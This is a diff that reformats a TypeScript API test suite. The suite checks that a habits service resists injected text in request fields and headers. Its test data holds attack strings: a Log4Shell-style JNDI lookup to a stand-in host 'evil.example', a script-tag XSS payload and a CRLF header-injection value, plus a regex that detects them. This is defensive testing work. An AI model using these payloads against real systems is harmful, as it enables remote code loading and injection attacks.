@@ -19,7 +19,9 @@ function withText(value: unknown, text: string): readonly unknown[] {
   if (typeof value === 'string') return [text];
   if (typeof value !== 'object' || value === null) return [];
   const copies = Object.entries(value).flatMap(([name, inner]) =>
-    withText(inner, text).map((fresh) => Object.assign(Array.isArray(value) ? [...value] : { ...value }, { [name]: fresh })),
+    withText(inner, text).map((fresh) =>
+      Object.assign(Array.isArray(value) ? [...value] : { ...value }, { [name]: fresh }),
+    ),
   );
   return copies as readonly unknown[];
 }
@@ -42,35 +44,44 @@ function requests(route: Route, belongings: Belongings, text: string) {
   ];
 }
 
-describeApi('text that means something to other programs', (api) => {
-  let somebody: (SomebodyWithEverything & { readonly stranger: Visitor }) | undefined;
+describeApi(
+  'text that means something to other programs',
+  (api) => {
+    let somebody: (SomebodyWithEverything & { readonly stranger: Visitor }) | undefined;
 
-  const given = async () => {
-    if (somebody !== undefined) return somebody;
-    const stranger = api().visitor();
-    await stranger.signUp();
-    somebody = { stranger, ...(await somebodyWithEverything(api())) };
-    return somebody;
-  };
+    const given = async () => {
+      if (somebody !== undefined) return somebody;
+      const stranger = api().visitor();
+      await stranger.signUp();
+      somebody = { stranger, ...(await somebodyWithEverything(api())) };
+      return somebody;
+    };
 
-  it.each(ROUTES.map((route) => [route.operationId, route] as const))(
-    'is text to %s, in every place that takes one',
-    async (_id, route) => {
-      const { stranger, belongings, expectUnchanged } = await given();
-      for (const text of [SQL, HEADERS]) {
-        for (const { method, path, options } of requests(route, belongings, text)) {
-          const { status, headers, cookies } = await stranger.send(method, path, options);
-          expect(status).toBeLessThan(500);
-          expect(`${JSON.stringify(headers)} ${cookies.join(' ')}`).not.toMatch(/planted|\\r|\\n|<html>/i);
+    it.each(ROUTES.map((route) => [route.operationId, route] as const))(
+      'is text to %s, in every place that takes one',
+      async (_id, route) => {
+        const { stranger, belongings, expectUnchanged } = await given();
+        for (const text of [SQL, HEADERS]) {
+          for (const { method, path, options } of requests(route, belongings, text)) {
+            const { status, headers, cookies } = await stranger.send(method, path, options);
+            expect(status).toBeLessThan(500);
+            expect(`${JSON.stringify(headers)} ${cookies.join(' ')}`).not.toMatch(/planted|\\r|\\n|<html>/i);
+          }
         }
-      }
-      await expectUnchanged();
-    },
-  );
+        await expectUnchanged();
+      },
+    );
 
-  it.each(['accept', 'accept-language', 'cookie', 'idempotency-key', 'if-match', 'origin', 'user-agent', 'x-request-id'])(
-    'is text in the header %s',
-    async (name) => {
+    it.each([
+      'accept',
+      'accept-language',
+      'cookie',
+      'idempotency-key',
+      'if-match',
+      'origin',
+      'user-agent',
+      'x-request-id',
+    ])('is text in the header %s', async (name) => {
       const { stranger, expectUnchanged } = await given();
       for (const value of [SQL, '${jndi:ldap://evil.example/a}', '"><script>alert(1)</script>', '%0d%0aX-Planted: 1']) {
         const { status, text, headers } = await stranger.send('GET', '/habits', { headers: { [name]: value } });
@@ -78,6 +89,7 @@ describeApi('text that means something to other programs', (api) => {
         expect(`${text} ${JSON.stringify(headers)}`).not.toMatch(/jndi|<script>|planted|drop table/i);
       }
       await expectUnchanged();
-    },
-  );
-}, { ...UNLIMITED, modes: ['lambda'] });
+    });
+  },
+  { ...UNLIMITED, modes: ['lambda'] },
+);
